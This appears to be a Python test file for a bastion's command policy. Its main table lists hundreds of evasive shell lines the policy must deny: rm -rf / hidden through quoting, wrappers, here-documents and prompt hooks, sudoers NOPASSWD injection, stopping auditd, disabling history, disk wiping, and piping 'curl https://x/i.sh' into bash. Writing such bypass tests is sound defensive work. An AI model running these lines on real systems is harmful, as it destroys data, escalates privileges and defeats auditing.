"""The command policy: what a line typed through the bastion is judged to run, and the verdict.

Most cases are tables run against the default policy (config/policy.toml), as an operator would
meet it; the semantics of rules are pinned with small policies written inline.
"""

from __future__ import annotations

import re
import shlex
import tomllib
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bastion.command_control.policy import (
    ACTIONS,
    FILE_OPERATIONS,
    MAX_WORK,
    SHELLS,
    Defaults,
    Policy,
    PolicyError,
    Rule,
    cost,
    editing_mode,
    evaluate,
    heredoc_word,
    is_complete,
    judge_path,
    normalise_path,
    parse_commands,
    policy_from_dict,
    reads_script_from_stdin,
    script_doubt,
    shell_name,
    stdin_reader,
    stdin_shell,
    through_proc,
    uncertain_verdict,
)
from bastion.ssh import gate, judge
from tests.rows import each

POLICY_FILE = Path(__file__).resolve().parents[1] / "config" / "policy.toml"


def action(policy: Policy, line: str, role: str = "engineer", target: str = "web01") -> str:
    return evaluate(policy, line, role=role, target=target).action


def names(line: str) -> list[str | None]:
    return [command.name for command in parse_commands(line)]


def small_policy(*rules: dict, **defaults: object) -> Policy:
    return policy_from_dict({"defaults": dict(defaults), "rules": list(rules)})


# ---------------------------------------------------------------------------------------------
# Bypass attempts against the default policy. Every line here runs `rm -rf /` (or another
# denied command) in bash; each must be denied.

DENIED_BYPASSES = [
    # here-documents after a file redirection: what follows them and their bodies still run
    "cat > /tmp/x <<EOF\n$(rm -rf /)\nEOF",
    "cat > /tmp/x <<'EOF' && rm -rf /\nbody\nEOF",
    "cat > /tmp/x <<'EOF'\nbody\nEOF\nrm -rf /",
    "cat > /tmp/x <<A; cat <<B\nA\n$(rm -rf /)\nB",
    # paths
    "/bin/rm -rf /",
    "./rm -rf /",
    "../../usr/bin/rm -rf /",
    "//usr//bin//rm -rf /",
    "~/bin/rm -rf /",
    # quoting and escapes
    "'r'm -rf /",
    '"rm" -rf /',
    r"r\m -rf /",
    r"\rm -rf /",
    r"$'\x72m' -rf /",
    r"$'\162m' -rf /",
    r"$'r\u006d' -rf /",
    r"$'rm\0ignored' -rf /",
    '"r""m" -rf /',
    "r'm' -rf '/'",
    'rm -rf "/"',
    "rm '-rf' /",
    r"rm -rf \/",
    "$'rm' -rf /",
    '$"rm" -rf /',
    "r\\\nm -rf /",
    # flag spellings and targets
    "rm -r -f /",
    "rm -Rf /",
    "rm --recursive --force /",
    "rm -rf /*",
    "rm -rf //",
    "rm -rf /.",
    "rm -rf /etc",
    "rm -rf /etc/",
    "rm -rf /usr/*",
    "rm -rf /e?c",
    "rm -rf /[e]tc",
    "rm -rf ~",
    "rm -rf $HOME",
    "rm -rf -- /",
    "rm -rf --no-preserve-root /",
    # sequences and operators
    "ls; rm -rf /",
    "ls;rm -rf /",
    "ls && rm -rf /",
    "false || rm -rf /",
    "ls | rm -rf /",
    "ls & rm -rf /",
    "ls\nrm -rf /",
    "(rm -rf /)",
    "{ rm -rf /; }",
    "! rm -rf /",
    "if true; then rm -rf /; fi",
    "if rm -rf /; then :; fi",
    "while true; do rm -rf /; done",
    "until false; do rm -rf /; done",
    "for i in 1; do rm -rf /; done",
    "for ((i=0;i<1;i++)); do rm -rf /; done",
    "select x in a; do rm -rf /; done",
    "case x in x) rm -rf /;; esac",
    "f() { rm -rf /; }",
    "function f { rm -rf /; }",
    # substitutions
    "echo $(rm -rf /)",
    "echo `rm -rf /`",
    'echo "$(rm -rf /)"',
    "x=$(rm -rf /)",
    "echo ${x:-$(rm -rf /)}",
    "cat <(rm -rf /)",
    "tee >(rm -rf /)",
    "[[ $(rm -rf /) ]]",
    '[ "$(rm -rf /)" ]',
    "echo $(( $(rm -rf /) ))",
    "((x=$(rm -rf /)))",
    "echo $(echo $(echo $(rm -rf /)))",
    # assignments and redirections
    "FOO=1 rm -rf /",
    "FOO=1 BAR=2 sudo rm -rf /",
    "rm -rf / > /dev/null 2>&1",
    ">/dev/null rm -rf /",
    "rm >/dev/null -rf /",
    "rm 2>/dev/null -rf /",
    "sudo >/dev/null rm -rf /",
    "rm <<<x -rf /",
    "rm <<EOF -rf /\nx\nEOF",
    # here-documents
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "cat <<EOF; rm -rf /\nx\nEOF",
    "cat <<EOF && rm -rf /\nx\nEOF",
    "bash <<EOF\nrm -rf /\nEOF",
    "bash <<'EOF'\nrm -rf /\nEOF",
    "sh <<-EOF\n\trm -rf /\n\tEOF",
    "bash <<< 'rm -rf /'",
    # -c strings and eval
    "sh -c 'rm -rf /'",
    'bash -c "rm -rf /"',
    "dash -c 'rm -rf /'",
    "zsh -c 'rm -rf /'",
    "ksh -c 'rm -rf /'",
    "bash -lc 'rm -rf /'",
    "bash -x -c 'rm -rf /'",
    "bash -o errexit -c 'rm -rf /'",
    "busybox sh -c 'rm -rf /'",
    "bash -c 'bash -c \"rm -rf /\"'",
    "sh -c \"sh -c 'sh -c \\\"rm -rf /\\\"'\"",
    "eval 'rm -rf /'",
    "eval rm -rf /",
    'eval "r""m -rf /"',
    "su -c 'rm -rf /'",
    'su - root -c "rm -rf /"',
    "su root -c 'rm -rf /'",
    "su -lc 'rm -rf /'",
    "su --session-command='rm -rf /' root",
    "su root --command 'rm -rf /'",
    "runuser -l root -c 'rm -rf /'",
    "sg wheel -c 'rm -rf /'",
    "watch 'rm -rf /'",
    "watch -n 1 rm -rf /",
    "script -c 'rm -rf /'",
    "script -q -c 'rm -rf /' /dev/null",
    "flock -w 5 /tmp/l -c 'rm -rf /'",
    "env -S 'rm -rf /'",
    "at now <<< 'rm -rf /'",
    "trap 'rm -rf /' EXIT",
    "alias ls='rm -rf /'",
    "PROMPT_COMMAND='rm -rf /'",
    "export PS1='$(rm -rf /) $ '",
    # wrappers
    "command rm -rf /",
    "builtin rm -rf /",
    "exec rm -rf /",
    "sudo rm -rf /",
    "sudo -u root rm -rf /",
    "sudo -u root -- rm -rf /",
    "sudo -i rm -rf /",
    "sudo -s 'rm -rf /'",
    "sudo -E -H -n rm -rf /",
    "sudo /bin/rm -rf /",
    "doas rm -rf /",
    "doas -u root rm -rf /",
    "pkexec rm -rf /",
    "runuser -u root -- rm -rf /",
    "env rm -rf /",
    "env -i PATH=/bin rm -rf /",
    "env -u HOME rm -rf /",
    "env FOO=1 BAR=2 rm -rf /",
    "env -- A=1 rm -rf /",
    "env -i -- A=1 B=2 rm -rf /",
    "nice rm -rf /",
    "nice -n 10 rm -rf /",
    "nice -10 rm -rf /",
    "ionice -c 3 rm -rf /",
    "nohup rm -rf / &",
    "time rm -rf /",
    "time -p rm -rf /",
    "timeout 10 rm -rf /",
    "timeout -s KILL -k 5 10s rm -rf /",
    "stdbuf -o0 rm -rf /",
    "chrt -r 10 rm -rf /",
    "taskset 0x1 rm -rf /",
    "taskset -c 0 rm -rf /",
    "setsid rm -rf /",
    "unbuffer rm -rf /",
    "flock /tmp/l rm -rf /",
    "busybox rm -rf /",
    "toybox rm -rf /",
    "chroot / rm -rf /",
    "chroot --userspec=0:0 / rm -rf /",
    "xargs sh -c 'rm -rf /'",
    "find / -exec rm -rf {} \\;",
    "find / /home -exec rm -rf {} +",
    "find . -ok rm -rf / \\;",
    "find . -exec sh -c 'rm -rf /' \\;",
    "sudo nice -n 5 nohup timeout 10 env A=1 rm -rf /",
    "sudo -s rm -rf /",
    "sudo -u#0 rm -rf /",
    "su -s /bin/sh -c 'rm -rf /' root",
    "sg root 'rm -rf /'",
    "chroot / /bin/sh -c 'rm -rf /'",
    "watch -x rm -rf /",
    "script -qc 'rm -rf /'",
    "busybox ash -c 'rm -rf /'",
    ". /dev/stdin <<< 'rm -rf /'",
    "unshare -r rm -rf /",
    "nsenter -t 1 -m rm -rf /",
    "strace -f rm -rf /",
    "systemd-run rm -rf /",
    "coproc rm -rf /",
    "parallel rm -rf ::: /",
    "parallel -j2 'rm -rf {}' ::: /tmp/a /",
    "find / -maxdepth 0 -exec rm -rf {} +",
    "time (rm -rf /)",
    "{ rm -rf /; } 2>/dev/null",
    "rm -rf / &>/dev/null &",
    "[ -d / ] && rm -rf /",
    "rm -rf /bin/..",
    # other denied commands, spelled evasively
    "/sbin/mkfs.ext4 /dev/sdb1",
    "sudo 'mkfs' -t xfs /dev/sdb",
    r"i\ptables -F",
    "iptables -t nat -F",
    "sudo iptables --flush",
    "HISTFILE=/dev/null bash",
    "env HISTFILE=/dev/null bash",
    "export HISTFILE=/dev/null",
    "echo 'x ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
    "sh -c 'systemctl stop auditd'",
    "dd if=/dev/zero of=/dev/sda",
    "cat img > /dev/sda",
    "blkdiscard /dev/sda",
    "shopt -u -o history",
    "/etc/init.d/auditd stop",
    "mv /etc/shadow /tmp/",
    "dd if=/tmp/x of=/etc/shadow",
    "chage -d 0 root",
    # coproc compounds (tree-sitter-bash reads their braces as words)
    "coproc { rm -rf /; }",
    "coproc N { rm -rf /; }",
    "coproc (rm -rf /)",
    "echo x; coproc worker { rm -rf /; }",
    "coproc bash",  # a shell fed through the coprocess pipe
    # backticks in an unquoted here-document body
    "cat <<EOF\n`rm -rf /`\nEOF",
    "cat <<EOF; ls\n`rm -rf /`\nEOF",
    # path spellings (rules' paths: lexically normalised, ~ expanded)
    "echo x >> /etc//sudoers",
    "echo x >> /etc/./sudoers",
    "echo x >> /etc/../etc/sudoers",
    "echo x >> //etc/sudoers",
    "echo x >> /tmp/../../etc/sudoers.d/x",
    "echo x | tee -a /etc/./sudoers.d//eve",
    "rm -rf /tmp/../",
    "rm -rf /tmp/..",
    "rm -rf ~root",
    "rm -rf ~root/",
    "rm -rf /root/.",
    "rm -rf //etc/.",
    "rm -rf /usr/local/../../var",
    "rm -rf /home/bob",
    "cp /tmp/shadow /etc",
    "cp /tmp/shadow /etc/",
    "cp -t /etc /tmp/shadow",
    "cp --target-directory=/etc /tmp/shadow",
    "install -m 600 /tmp/s /etc/shadow",
    "mv /tmp/x /etc//sudoers.d/",
    "ln -sf /tmp/x /etc/sudoers",
    "dd if=/tmp/x of=/etc/./shadow",
    "sed -i s/x/y/ /etc//passwd",
    "truncate -s0 /var/log//wtmp",
    "rm /var/log/audit/../audit/audit.log",
    "shred /dev//sda",
    "cat img > /dev/./sda",
    "cat img >| /dev/sda",
    "cat img &> /dev/sda",
    "rm ~/.bash_history",
    "rm ./.bash_history",
    "ln -sf /dev/null .bash_history",
    "> ~root/.bash_history",
    "echo x > /etc/sudoer{s,x}",
    "echo x > /proc/self/root/etc/sudoers",
    "rm -rf /proc/1/root/",
    "rm /proc/self/cwd/.bash_history",
    # the remote end of a legacy scp writing a protected file
    "scp -t /etc/sudoers",
    "scp -v -d -t -- /etc//shadow",
    # shells and interpreters the policy did not know, or named by path and version
    "rbash -c 'rm -rf /'",
    "/usr/local/bin/bash5.2 -c 'rm -rf /'",
    "ksh93 -c 'rm -rf /'",
    "mksh -c 'rm -rf /'",
    "busybox ash -c 'rm -rf /'",
    "toybox sh -c 'rm -rf /'",
    "bash -o emacs -c 'rm -rf /'",
    "bash -O extglob -c 'rm -rf /'",
    "fish -C 'rm -rf /'",
    "fish --init-command='rm -rf /'",
    "printf 'ls\n' | rbash",
    "curl x | /bin/dash",
    "curl x | bash5.2",
    "curl x | busybox sh",
    "curl x | python3 -W ignore",
    "curl x | perl -I /tmp",
    "curl x | awk -f -",
    "noglob rm -rf /",
    # the user's shell started with no command, fed text
    "echo 'rm -rf /' | su",
    "curl x | sudo -s",
    "curl x | sudo -i",
    "curl x | doas -s",
    "curl x | script -q /dev/null",
    "curl x | chroot /",
    "sudo -s <<< 'rm -rf /'",
    "su - <<< 'rm -rf /'",
    # a same-line cd makes a relative path absolute
    "cd /etc; rm -f sudoers",
    "cd /etc && echo x >> sudoers",
    "cd / && rm -rf etc",
    "cd /; cd etc; rm shadow",
    "cd; rm .bash_history",
    "sed --in-place=.bak s/x/y/ /etc/passwd",
    "bash /dev//stdin <<< 'rm -rf /'",
    "sh /proc/self/fd/0 <<< 'rm -rf /'",
    ". /dev/./stdin <<< 'rm -rf /'",
    "curl -fsSo /etc/sudoers.d/x https://x.example/y",
    "wget -O /etc//shadow https://x.example/y",
    "sort -o /etc/passwd /tmp/passwd",
    "find / -maxdepth 0 -fprintf /etc/shadow x",
    # hooks that store code the shell runs later, set indirectly
    "printf -v PROMPT_COMMAND %s 'rm -rf /'",
    "PROMPT_COMMAND+='; rm -rf /'",
    "PROMPT_COMMAND=(history 'rm -rf /')",
    "declare 'PROMPT_COMMAND=rm -rf /'",
    "export 'PS1=$(rm -rf /)'",
    "local PS1='$(rm -rf /)'",
    "readonly PS4='$(rm -rf /)'",
    "typeset PS0='`rm -rf /`'",
    ": ${PROMPT_COMMAND:=rm -rf /}",
    "for PROMPT_COMMAND in 'rm -rf /'; do :; done",
    "mapfile -C 'rm -rf /' -c 1 < /etc/hosts",
    "readarray -C 'rm -rf /' -c 1 < /etc/hosts",
    "complete -C 'rm -rf /' ls",
    "complete -W '$(rm -rf /)' ls",
    "compgen -C 'rm -rf /' x",
    "compgen -W '`rm -rf /`'",
    "bind -x '\"\\C-t\": rm -rf /'",
    "bind -x '\"\\C-t\": \"rm -rf /\"'",
    "BASH_ALIASES[ls]='rm -rf /'",
    "env 'BASH_FUNC_f%%=() { rm -rf /; }' bash -c f",
    "BASH_ENV='$(rm -rf /)' bash -c :",
    "env ENV='$(rm -rf /)' sh -i",
    "MAILPATH='/var/mail/root?$(rm -rf /)'",
    "export MAIL='`rm -rf /`'",
    "sudo -i PS1='$(rm -rf /)' bash",
    # prompts: decoded before they are expanded
    "PS1='\\044(rm -rf /)'",
    "PS1='\\140rm -rf /\\140'",
    "export PS1='\\[\\e[1m\\]$(rm -rf /)\\[\\e[0m\\]'",
    "PS2='\"$(rm -rf /)\"'",
    "PS1=\"\\$PS1\\$(rm -rf /)\"",
    # outside attack B, finding 14: programs that run the command after them
    "setarch x86_64 rm -rf /",
    "setarch x86_64 -R rm -rf /",
    "linux64 rm -rf /",
    "linux32 --uname-2.6 rm -rf /",
    "systemd-inhibit --why=x rm -rf /",
    "numactl -m 0 rm -rf /",
    "numactl --membind=0 -- rm -rf /",
    "runcon system_u:system_r:unconfined_t rm -rf /",
    "runcon -t unconfined_t rm -rf /",
    "chpst -u root rm -rf /",
    "rlwrap -a rm -rf /",
    "bwrap --bind / / --dev /dev rm -rf /",
    "start-stop-daemon --start --exec /bin/rm -- -rf /",
    "start-stop-daemon -S -a /bin/rm -x /bin/true -- -rf /",
    "machinectl shell .host /bin/rm -rf /",
    "tmux new 'rm -rf /'",
    "tmux new-session -d -s x 'rm -rf /'",
    "tmux -L sock new -d rm -rf /",
    "tmux new -d \\; run-shell 'rm -rf /'",
    "tmux -c 'rm -rf /'",
    "screen -dm rm -rf /",
    "screen -dmS name rm -rf /",
    "capsh -- -c 'rm -rf /'",
    "capsh --shell=/bin/sh -- -c 'rm -rf /'",
    "gdb -batch -ex run --args rm -rf /",
    "perf stat -e cycles -- rm -rf /",
    "ip netns exec blue rm -rf /",
    "cpulimit -l 50 rm -rf /",
    "faketime yesterday rm -rf /",
    "unshare -r rm -rf /",
    "nsenter -t 1 -m -u -i -n -p rm -rf /",
    "firejail --noprofile rm -rf /",
    "systemd-run --scope rm -rf /",
    "xvfb-run -a rm -rf /",
    "ssh-agent rm -rf /",
    "dbus-run-session -- rm -rf /",
    "schroot -c jail -- rm -rf /",
    "entr -s 'rm -rf /' < list",
    "ssh localhost 'rm -rf /'",
    "ssh -p 22 -o BatchMode=yes root@127.0.0.1 rm -rf /",
    # writers that were not counted as writes (the report's suspicions)
    "uniq x /etc/sudoers",
    "sort x | uniq - /etc/passwd",
    "patch /etc/sudoers < p.diff",
    "patch -o /etc/shadow x p.diff",
    "echo x | sponge /etc/sudoers",
    "shuf -o /etc/group x",
    "xxd -r dump /etc/sudoers",
    "awk -i inplace '{print}' /etc/passwd",
    "rsync -a --delete empty/ /etc/",
    "rsync -a --remove-source-files /var/log/wtmp /tmp/x",
    # outside attack B, finding 12: brace expansion, in the command word and in declare's words
    "r{m,} -rf /",
    "declare PS{4,}='$(rm -rf /)'; set -x; :",
    "export PROMPT_COMMAND{,}='rm -rf /'",
    "local 'PS'{1,2}='$(rm -rf /)'",
    # outside attack B, finding 4: assignment words before the command of time, coproc, sudo
    "time a=b rm -rf /",
    "time -p a=b rm -rf /",
    "coproc a=b rm -rf /",
    "sudo a=b rm -rf /",
    "sudo -u root FOO=1 history -c",
    "sudo HISTFILE= bash",
    "time PROMPT_COMMAND='rm -rf /' bash",
    # outside attack B, finding 3: elements of an array given to declare as a string
    "declare -a 'b=($(rm -rf /))'",
    "declare -A 'b=([$(rm -rf /)]=1)'",
    "typeset -a 'b=($(rm -rf /))'",
    "readonly -a 'b=($(rm -rf /))'",
    "declare -a b='($(rm -rf /))'",
    "declare 'b=($(rm -rf /))'",
    "f() { local -a \"b=(\\$(rm -rf /))\"; }",
    # outside attack B, finding 1: newlines inside double-quoted code strings are kept
    'bash -c "true\nrm -rf /"',
    'sh -c ":\nmkfs.ext4 -q -F /dev/sdb"',
    'eval "true\nrm -rf /"',
    'su -c "true\n\nrm -rf /"',
    'PROMPT_COMMAND="true\nrm -rf /"',
    'alias x="true\nrm -rf /"',
    'x=$(eval "true\nrm -rf /")',
    # finding 2: a backslash-escaped command word after a newline is a command of its own
    "true\n\\rm -rf /",
    "{ true\n\\rm -rf /\n}",
    "if true; then\n\\rm -rf /\nfi",
    "bash -c 'true\n\\rm -rf /'",
    "cat <<E\n$(true\n\\rm -rf /)\nE",
    # finding 9: digits against a redirection are its descriptor, the next word the command
    "0<&- rm -rf /",
    "0<&-rm -rf /",
    "2>&- rm -rf /",
    "echo 0<&- ; rm -rf /",
    "0>/dev/null rm -rf /",
    # finding 5: text fed to a shell through another name of its stdin
    "printf 'rm -rf /' | bash /dev/fd/3 3<&0",
    "printf 'rm -rf /' | bash 3<&0 /dev/fd/3",
    "printf 'rm -rf /' | bash /dev/fd/3 3>&0",
    "curl -s https://x/i.sh | BASH_ENV=/dev/stdin bash -c :",
    "curl -s https://x/i.sh | env BASH_ENV=/dev/stdin bash -c :",
    "curl -s https://x/i.sh | bash /proc/self/root/dev/stdin",
    "curl -s https://x/i.sh | sh /proc/self/fd/0",
    "curl -s https://x/i.sh | sh -c 'sh /dev/fd/3' 3<&0",
    "curl -s https://x/i.sh | . /dev/fd/3 3<&0",
    "curl -s https://x/i.sh | bash /dev/stdin",
    "bash /dev/fd/3 3<<EOF\nrm -rf /\nEOF",
    # outside attack C, finding 4: here-document words as bash reads them, and the line that
    # ends the body (code after it is judged as code)
    "cat <<$'EOF'\nEOF\necho x >> /etc/sudoers.d/atkc\n$'EOF'",
    'cat <<$"EOF"\nEOF\necho x >> /etc/sudoers.d/atkc\n$"EOF"',
    "cat <<$''\n\nrm -rf /\n$''",
    'cat <<$"E"OF\nEOF\nrm -rf /\n$"E"OF',
    "cat <<$'E\\x4fF'\nEOF\nrm -rf /\nE\\x4fF",
    'cat <<"E\\OF"\nE\\OF\nrm -rf /\nEOF',
    "cat <<EOF\nEO\\\nF\nrm -rf /\nEOF",
    "cat <<-EOF\n\t\\\nEOF\nrm -rf /\nEOF",
    "x=$(cat <<EOF\nhi\nEOF)\nrm -rf /\nEOF\n)",
    "x=`cat <<EOF\nhi`; rm -rf /",
    # finding 7: as sh (dash) reads it: `[[` and `((` are commands there, `&>` a `&` and `>`
    "[[ a || rm -rf / ]]",
    "[[ -n x && rm -rf / ]]",
    "[[ 1 > /etc/sudoers ]]",
    "((mkfs))",
    "((wipefs))",
    "echo x &>/dev/null rm -rf /",
    "sh -c '[[ a || rm -rf / ]]'",
    "eval '[[ x || cd /etc ]]'; tee -a sudoers",
    # `[` is a command to bash as well (tree-sitter-bash reads it as a test)
    "[ a || rm -rf / ]",
    "[ -f x > /etc/sudoers ]",
    # finding 8: a command run in another directory
    "env -C /etc tee -a sudoers",
    "env -C /etc sh -c ': > sudoers'",
    "env --chdir=/etc tee -a sudoers",
    "env --ch /etc tee -a sudoers",
    "sudo -D /etc tee -a sudoers",
    "sudo --chdir=/etc tee -a sudoers",
    "sudo -i tee -a ../etc/sudoers",
    "sudo -R /proc/1/root tee -a /etc/sudoers",
    "su - -c 'tee -a ../etc/sudoers'",
    "su -l root -c 'tee -a ../etc/sudoers'",
    "runuser -l root -c 'tee -a ../etc/sudoers'",
    "chroot / tee -a /etc/sudoers",
    "chroot /proc/1/root sh -c 'cd etc; tee -a sudoers'",
    "nsenter -t 1 -m -w/etc tee -a sudoers",
    "nsenter --wd=/etc -t 1 tee -a sudoers",
    "unshare -w /etc tee -a sudoers",
    "unshare --wd=/etc tee -a sudoers",
    "systemd-run tee -a etc/sudoers",
    "systemd-run --working-directory=/etc tee -a sudoers",
    "systemd-run -p WorkingDirectory=/etc tee -a sudoers",
    "bwrap --bind / / --chdir /etc tee -a sudoers",
    "start-stop-daemon --start --chdir /etc --exec /usr/bin/tee -- -a sudoers",
    "find /etc -name hosts -execdir tee -a sudoers ;",
    "parallel --wd /etc tee -a sudoers ::: x",
    "tmux new -c /etc 'tee -a sudoers'",
    # finding 9: paths through /proc's magic links
    "echo x >> /proc/self/root/etc/sudoers",
    "echo x >> /proc/thread-self/root/etc/sudoers",
    "echo x >> /proc/self/task/1/root/etc/sudoers",
    "echo x >> /proc/./self/../1/root/etc/sudoers",
    "cd /root; echo x >> /proc/self/cwd/../etc/sudoers",
    "cd /etc; echo x >> /proc/self/cwd/sudoers",
    # finding 12: programs that run the command after them, long options abbreviated
    "timeout --sig KILL 5 rm -rf /",
    "nice --adj 5 rm -rf /",
    "sudo --us root rm -rf /",
    "sudo --sh 'rm -rf /'",
    "su root --comm 'rm -rf /'",
    "script -q --comm 'rm -rf /' /dev/null",
    "sem rm -rf /",
    "sem --id x -j1 rm -rf /",
    "dtach -c /tmp/s -e ^x rm -rf /",
    "abduco -e ^q -c s rm -rf /",
    "pee 'rm -rf /' cat",
    "mosh-server new -s -- rm -rf /",
    "torify rm -rf /",
    "ifne rm -rf /",
    "with-lock-ex -w /tmp/l rm -rf /",
    "systemd-nspawn -D / --bind /tmp:/mnt rm -rf /",
    "gdb -batch -ex 'shell rm -rf /'",
    "gdb -batch -ex '!rm -rf /'",
    "gdb -batch -ex 'run; rm -rf /' /bin/true",
    "git -c alias.x='!rm -rf /' x",
    "git -c core.sshCommand='rm -rf /' fetch",
    # outside attack E, finding 2: su -s PROGRAM runs any program; wrappers mis-parsed
    "su -s /usr/bin/tee root -- -a /etc/sudoers",
    "su -s /bin/rm root -- -rf /",
    "su --shell=/usr/bin/env root -- rm -rf /",
    "su --sh=/usr/bin/env root -- rm -rf /",
    "su -ps /bin/rm root -rf /",
    "runuser -s /usr/bin/env root -- rm -rf /",
    "su -s /bin/sh -c 'rm -rf /' root",
    "setarch -R rm -rf /",
    "setarch --addr-no-randomize rm -rf /",
    "setarch -R -- rm -rf /",
    "setarch x86_64 -R rm -rf /",
    "gpg-agent --daemon rm -rf /",
    "gpg-agent --homedir /tmp/g --daemon rm -rf /",
    # outside attack E, finding 3: writers not counted as writes (more in WRITES)
    "echo 'mallory ALL=(ALL) NOPASSWD:ALL' | sed -n 'w /etc/sudoers.d/m'",
    "echo x | sed -n 's/^/y/w /etc/sudoers.d/m'",
    "split -l1 /tmp/payload /etc/sudoers.d/m",
    "split -d -l1 /tmp/payload /etc/sudoers.d/m",
    "csplit -f /etc/sudoers.d/m /tmp/payload 1",
    "strace -o /etc/sudoers.d/m true",
    "tar -cf /etc/sudoers.d/m /etc/hostname",
    "ssh-keygen -q -N '' -f /etc/sudoers.d/m",
    "sqlite3 /etc/sudoers.d/m 'create table t(a)'",
    "git -C /etc config -f sudoers.d/m k.v y",
    "gzip /etc/shadow",
    "echo x 1<>/etc/sudoers",
    # outside attack E, finding 4 and the sed, strace, tar and sqlite3 members: code in options
    "strace -o '|rm -rf /' true",
    "strace -o'!rm -rf /' true",
    "sed '1e rm -rf /' x",
    "sed -n '1!e rm -rf /' x",
    "tar --to-command='rm -rf /' -xf a.tar",
    "tar -cf x --checkpoint=1 --checkpoint-action=exec='rm -rf /' y",
    "tar -I 'rm -rf /' -cf a b",
    "split --filter='rm -rf /' x",
    "sqlite3 db '.shell rm -rf /'",
    "sqlite3 db '.system rm -rf /'",
    "sqlite3 db \".once '|rm -rf /'\"",
    "sqlite3 -cmd '.shell rm -rf /' db",
    "tcpdump -z 'rm -rf /' -w x",
    "ssh -o ProxyCommand='rm -rf /' -o ConnectTimeout=2 x",
    "ssh -oProxyCommand='rm -rf /' x",
    "ssh -o 'ProxyCommand rm -rf /' x",
    "ssh -o ProxyUseFdpass=yes -o ProxyCommand='rm -rf /' x",
    "ssh -o PermitLocalCommand=yes -o LocalCommand='rm -rf /' x",
    "ssh -o RemoteCommand='rm -rf /' -t x",
    "ssh -o KnownHostsCommand='rm -rf /' x",
    "scp -o ProxyCommand='rm -rf /' /etc/hostname x:/tmp/y",
    "sftp -o ProxyCommand='rm -rf /' x",
    "rsync -e 'ssh -o ProxyCommand=\"rm -rf /\"' a x:b",
    "rsync --rsh='rm -rf /' a x:b",
    "rsync --rsync-path='rm -rf /' a x:b",
    "gdb --cd=/etc -batch -ex 'shell rm sudoers'",
    "gdb -cd /etc -batch -ex '!rm sudoers'",
    # outside attack G, finding 2: a command language fed on the line (a here-string or -document)
    "sqlite3 :memory: <<< '.shell touch /etc/sudoers.d/x'",
    "gdb -q -nx <<'E'\nshell touch /etc/sudoers.d/x\nE",
    "python3 <<< 'import os'", "perl <<< 'system 1'", "awk -f /dev/stdin /dev/null <<< 'BEGIN{}'",
    # finding 3: sqlite3's dot commands by any start of their name, and their pipes
    "sqlite3 :memory: '.sh touch /etc/sudoers.d/x'", "sqlite3 :memory: '.she rm -rf /'",
    "sqlite3 :memory: '.sys rm -rf /'", "sqlite3 :memory: \".o '|rm -rf /'\" 'select 1'",
    "sqlite3 :memory: \".on '|rm -rf /'\" 'select 1'", "sqlite3 :memory: \".read '|rm -rf /'\"",
    "sqlite3 :memory: \".import '|rm -rf /' t\"", "sqlite3 -cmd '.sy rm -rf /' :memory: .q",
    "sqlite3 --cmd '.sh rm -rf /' :memory: .q", "sqlite3 :memory: '.o /etc/sudoers.d/x'",
    "sqlite3 :memory: '.tr /etc/sudoers.d/x'", "sqlite3 :memory: '.clone /etc/sudoers.d/x'",
    "sqlite3 :memory: '.open /etc/sudoers.d/x'", "sqlite3 db \"select 1;\n.sh rm -rf /\"",
    # finding 4: git's own code options, ext:: remotes, --config-env in its space form
    "git -c protocol.ext.allow=always ls-remote 'ext::rm -rf /'",
    "git ls-remote --upload-pack='rm -rf / #' /tmp/repo", "git ls-remote --upload-p='rm -rf /' r",
    "git clone -u 'rm -rf / #' /tmp/repo d", "git fetch --upload-pack 'rm -rf / #' origin",
    "git pull --upload-pack='rm -rf /' origin", "git push --receive-pack='rm -rf /' origin",
    "git archive --remote /tmp/r --exec='rm -rf / #' HEAD",
    "git -c remote.o.url='ext::rm -rf /' fetch o", "git config remote.o.url 'ext::rm -rf /'",
    "git grep --open-files-in-pager='rm -rf /' x", "git grep -O'rm -rf /' x",
    "git rebase -x 'rm -rf /' HEAD~1", "git rebase --exec='rm -rf /' HEAD~1",
    "git bisect run rm -rf /", "git submodule foreach 'rm -rf /'",
    "git difftool -x 'rm -rf /' HEAD", "git difftool --extcmd='rm -rf /' HEAD",
    "git filter-branch --tree-filter 'rm -rf /' HEAD", "git clone -c core.sshCommand='rm -rf /' x:y",
    "GIT_SSH_COMMAND='rm -rf /' git ls-remote x:y", "GIT_EXTERNAL_DIFF='rm -rf /' git diff",
    # finding 5: writers (GNU abbreviations, option forms, programs that make files)
    "sort --out /etc/sudoers.d/x /tmp/rule", "sort --outp=/etc/sudoers.d/x /tmp/rule",
    "sed --in-pl 's/^# *%sudo/%sudo/' /etc/sudoers", "sed -n 's/a/b/' -i /etc/sudoers",
    "curl -s --output-dir /etc/sudoers.d -o x http://h/rule",
    "curl -s --output-dir /etc/sudoers.d -O http://h/rule", "split /tmp/rule -- /etc/sudoers.d/z",
    "script -q -c true -O /etc/sudoers.d/x", "script -q --log-o /etc/sudoers.d/x -c true",
    "script -T /etc/sudoers.d/x -c true", "script -I /etc/sudoers.d/x -c true",
    "git archive -o /etc/sudoers.d/x HEAD", "git bundle create /etc/sudoers.d/x HEAD",
    "git worktree add /etc/sudoers.d/w", "git init /etc/sudoers.d/r",
    "wget --output-doc=/etc/sudoers.d/x http://h/rule", "wget --output-d /etc/sudoers.d/x http://h/r",
    "mkfifo /etc/sudoers.d/f",
    "mknod /etc/sudoers.d/n p", "install -d /etc/sudoers.d/d", "flock /etc/sudoers.d/l true",
    "fallocate -l 1 /etc/sudoers.d/f",
    # finding 6: code in common programs' options
    "dpkg --pre-invoke='rm -rf /' -i x.deb", "dpkg --post-invoke 'rm -rf /' -i x.deb",
    "apt-get -oDpkg::Options::=--pre-invoke='rm -rf /' install x",
    "man -P 'rm -rf /' ls", "man --pager='rm -rf /' ls", "man -P'rm -rf /' ls",
    "vim -es -c '!rm -rf /' -c q", "vim '+!rm -rf /' f",
    "zip -q z.zip f -T -TT 'rm -rf /'", "zip -q z.zip f -T --unzip-command 'rm -rf /'",
]


@each("line", DENIED_BYPASSES)
def test_bypass_attempts_are_denied(default_policy: Policy, line: str) -> None:
    assert action(default_policy, line) == "deny", parse_commands(line)


# Lines whose command is only known when they run: no rule can name them, so they get
# [defaults].unknown (confirm in the default policy), never allow.
UNKNOWN_LINES = [
    # outside attack E, finding 1: xargs gives a wrapper with no command its command
    ("echo rm -rf / | xargs env", "env runs a command or code that xargs appends"),
    ("echo reboot | xargs nice", "nice runs a command"),
